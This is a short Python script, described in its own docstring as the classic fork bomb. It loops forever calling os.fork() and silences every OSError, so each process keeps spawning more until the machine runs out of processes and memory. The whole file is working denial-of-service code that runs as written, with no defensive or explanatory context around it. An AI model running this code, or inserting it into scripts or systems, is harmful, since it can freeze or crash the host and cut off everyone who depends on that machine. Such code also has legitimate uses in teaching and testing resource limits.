"""The classic fork bomb: every process forks forever and ignores failures."""
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
